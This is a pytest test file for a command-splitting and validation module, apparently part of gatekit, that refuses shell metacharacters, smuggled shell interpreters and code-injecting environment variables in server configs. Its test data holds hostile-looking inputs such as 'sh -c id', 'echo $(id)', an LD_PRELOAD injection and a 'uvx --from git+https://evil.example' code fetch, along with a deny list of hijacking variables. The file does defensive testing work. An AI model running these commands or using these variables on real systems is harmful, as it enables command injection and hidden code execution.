"""Commands: split, never given to a shell (oauth checklist row 14, class of CVE-2026-30615)."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from gatekit.config.commands import Refused, Split, danger, hijack, split
from tests.unit.config.write import faults, loaded


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("python -m server", ("python", "-m", "server")),
        ("npx -y '@scope/pkg' \"two words\"", ("npx", "-y", "@scope/pkg", "two words")),
        ("prog a\\ b", ("prog", "a b")),
        ("prog # no comment", ("prog", "#", "no", "comment")),
        (
            "prog --filter=a>=b --re=^x$ a;b x|y",
            ("prog", "--filter=a>=b", "--re=^x$", "a;b", "x|y"),
        ),
        ("prog ${env:HOME}/x", ("prog", "${env:HOME}/x")),
        ("prog *.txt ~/x {a,b}", ("prog", "*.txt", "~/x", "{a,b}")),
        ("prog --version>=2", ("prog", "--version>=2")),
    ],
)
def test_splitting(command: str, words: tuple[str, ...]) -> None:
    assert split(command) == Split(words)


@pytest.mark.parametrize(
    "command",
    ["a | b", "a && b", "a & b", "a &", "a ; b", "a; b", "a > out", "a >> out", "a 2> err", "a 2>&1",
     "a >out", "a 2>/dev/null", "a < in", "a << EOF", "echo $(id)", "echo `id`", "echo $HOME/x", "A=1 prog",
     "", "   ", "a 'b"],
)  # fmt: skip
def test_what_only_a_shell_could_do_is_refused(command: str) -> None:
    """I14: What only a shell could do is refused."""
    assert isinstance(split(command), Refused)


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'id'", "/bin/bash -c id", "bash -lc id", "bash -o pipefail -c id", "dash -ec id", "zsh -c id",
        "env sh -c id", "/usr/bin/env A=1 bash -c id", "nice -n 5 sh -c id", "busybox sh -c id",
        "timeout 10 sh -c id", "sudo sh -c id", "env -S 'sh -c id'", "env LD_PRELOAD=/x.so prog",
        "cmd /c dir", "powershell -Command x", "sh", "bash -i", "bash -s", "sh -", "env sh",
        "npx -c 'id'", "npx --call=id", "npx -p pkg -c id", "npm exec -c id", "pnpm dlx -c id",
        "uvx --from git+https://evil.example t", "uvx --python 3.12 --from=x tool", "uv tool run --from x y",
        "pipx run --spec x y",
        "python", "python3.11 -", "python -i x.py", "python -u", "node", "/usr/bin/node -", "env node",
    ],
)  # fmt: skip
def test_smuggled_shells_and_programs_are_dangerous(command: str) -> None:
    """I14: Smuggled shells and programs are dangerous."""
    assert danger(tuple(shlex.split(command)))


@pytest.mark.parametrize(
    "command",
    [
        "python -m server", "python -u -m server", "python -c 'import x'", "python server.py -c conf -i",
        "python3 -mserver", "node server.js", "node -e 'x'", "npx -y @scope/p -c conf",
        "npx -y @scope/pkg --config -c", "uvx mcp-server-time", "uvx pkg -- --from x", "bash ./run.sh -c x",
        "env A=1 prog -c x", "nice -n 5 prog", "prog -c x", "mcp --call", "docker run -i --rm x",
        "timeout 10 prog", "./sh/prog",
    ],
)  # fmt: skip
def test_ordinary_commands_are_not(command: str) -> None:
    assert danger(tuple(shlex.split(command))) is None


@pytest.mark.parametrize(
    "name",
    ["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH",
     "PYTHONSTARTUP", "BASH_ENV", "ENV", "PERL5OPT", "RUBYOPT", "JAVA_TOOL_OPTIONS", "BASH_FUNC_ls%%",
     "GIT_SSH_COMMAND", "pythonpath"],
)  # fmt: skip
def test_variables_that_run_hidden_code(name: str) -> None:
    """I14: Variables that run hidden code."""
    assert hijack(name)


@pytest.mark.parametrize(
    "name", ["PATH", "HOME", "API_KEY", "LOG_LEVEL", "NODE_ENV", "PYTHONUNBUFFERED", "OLD_PWD"]
)
def test_ordinary_variables(name: str) -> None:
    assert hijack(name) is None


# -- in the file -------------------------------------------------------------------------------------------


def test_refusals_name_the_way_out(tmp_path: Path) -> None:
    found = faults(
        tmp_path,
        """
        servers:
          a: {command: "sh -c 'x'"}
          b: {command: prog, env: {LD_PRELOAD: x}}
          c: {command: a | b}
          d: {command: [bash, -c, x]}
          e: {command: prog, args: [x], env: {"a-b": y}}
          f: {command: sh, args: [-c, x]}
        """,
    )
    way_out = "refused; set `allow_dangerous: true` on this server if it is meant"
    assert found == (
        f"2: servers.a.command: `sh -c` hands text to a shell: {way_out}",
        f"3: servers.b.env.LD_PRELOAD: makes programs run code that the command does not show: {way_out}",
        "4: servers.c.command: '|' would need a shell, and no shell is used; "
        "write the command as a list if the characters are meant literally",
        f"5: servers.d.command: `bash -c` hands text to a shell: {way_out}",
        "6: servers.e.env.a-b: is not a name for an environment variable",
        f"7: servers.f.command: `sh -c` hands text to a shell: {way_out}",
    )


def test_what_is_meant_is_allowed(tmp_path: Path) -> None:
    config = loaded(
        tmp_path,
        "servers: {a: {command: \"sh -c 'exec x'\", env: {PYTHONPATH: y}, allow_dangerous: true}}",
    )
    assert config.servers[0].server.command == ("sh", "-c", "exec x")
    assert config.servers[0].allow_dangerous


def test_a_list_takes_words_literally_and_args_are_appended(tmp_path: Path) -> None:
    config = loaded(tmp_path, 'servers: {a: {command: [prog, "|", "$(x)"], args: ["a b", ""]}}')
    assert config.servers[0].server.command == ("prog", "|", "$(x)", "a b", "")


@pytest.mark.parametrize("command", ["[]", '[""]', '""', '"  "'])
def test_an_empty_command(tmp_path: Path, command: str) -> None:
    (found,) = faults(tmp_path, f"servers: {{a: {{command: {command}}}}}")
    assert found == "1: servers.a.command: is empty"


def test_nul_cannot_reach_a_process(tmp_path: Path) -> None:
    found = faults(tmp_path, 'servers: {a: {command: [prog, "a\\0b"], env: {X: "a\\0b"}}}')
    assert found == (
        "1: servers.a.command: holds a NUL character",
        "1: servers.a.env.X: holds a NUL character",
    )
